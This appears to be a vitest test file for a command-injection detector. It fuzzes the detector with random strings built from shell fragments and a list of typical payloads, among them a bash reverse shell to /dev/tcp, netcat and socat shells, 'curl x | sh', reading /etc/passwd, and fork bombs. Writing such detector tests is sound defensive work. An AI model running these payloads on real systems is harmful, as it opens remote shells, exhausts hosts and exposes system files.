// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads, not templates
import { describe, expect, it } from 'vitest'
import { forgetText, idioms } from '../../src/detect/cmd/idioms.js'

/**
 * detectCmd reads a text again from after the first quote that a separator follows (`';id;'`),
 * without its idioms: an idiom found in that suffix is one found in the whole text. Generated
 * strings dense in idiom pieces hold the idioms to that.
 */
const PIECES = [
  "';",
  "'|",
  '"&',
  "'$",
  "'`",
  '"\n',
  '";',
  "'&&",
  "'",
  '"',
  ';',
  '|',
  '&',
  '\n',
  '`',
  '$',
  ' ',
  ' ',
  '(',
  ')',
  '{',
  '}',
  '<',
  '>',
  '=',
  ':',
  '-',
  '/',
  '%',
  'sh',
  'bash',
  'id',
  'cat',
  'x',
  '1',
  '-i',
  '-e',
  '-c',
  '/c',
  'nc',
  'netcat',
  'socat',
  'exec:',
  'cmd',
  'powershell',
  '-enc',
  'iex',
  'for',
  'in',
  'do',
  'if',
  'not',
  'exist',
  'errorlevel',
  'find',
  '-exec',
  'curl',
  'wget',
  'system',
  'os.popen',
  'eval',
  '/etc/passwd',
  '/dev/tcp/1.2.3.4/80',
  'c:\\boot.ini',
  '.php',
  'invoke-',
  'iwr',
  '${',
  'sleep',
  '<!--#exec cmd=',
  '&1',
  'f',
  ':',
  'ba',
  'type',
]
const LIKELY = [
  'bash -i >& /dev/tcp/1.2.3.4/80 0>&1',
  'nc 1.2.3.4 80 -e /bin/sh',
  'socat tcp:x exec:sh',
  'cmd /c dir',
  'powershell -enc AAA',
  'iex (x)',
  '() { :;};',
  ':(){ :|:& };:',
  'for /f %i in (x) do y',
  'if exist x y z',
  'find . -exec id \\;',
  '${system(id)}',
  '> x.php',
  'iwr http://x',
  'curl x | sh',
  "system('id')",
  'cat /etc/passwd',
  'type c:\\boot.ini',
  'sh -i 2>&1 | nc x 1 >&0',
  'f(){ f|f& };f',
]

describe('command injection: the idioms of a suffix', () => {
  it('finds none in the suffix after a quote and a separator where the text has none', () => {
    let seed = 7
    const rand = (n: number) => {
      seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff
      return (seed >>> 16) % n
    }
    let suffixes = 0
    let found = 0
    for (let r = 0; r < 30000; r++) {
      let s = ''
      for (let k = rand(12); k >= 0; k--)
        s += rand(12) === 0 ? LIKELY[rand(LIKELY.length)] : PIECES[rand(PIECES.length)]
      const q = /['"][;|&\n`$]/.exec(s)
      if (q === null) continue
      const whole = idioms(s, 1)
      forgetText()
      const tail = s.slice(q.index + 1)
      const part = idioms(tail, 1, s)
      forgetText()
      suffixes++
      if (whole === null) expect(part, JSON.stringify(s)).toBeNull()
      else found++
    }
    // (the generator reaches idioms, and texts without one)
    expect(found).toBeGreaterThan(2000)
    expect(suffixes - found).toBeGreaterThan(2000)
  })
})
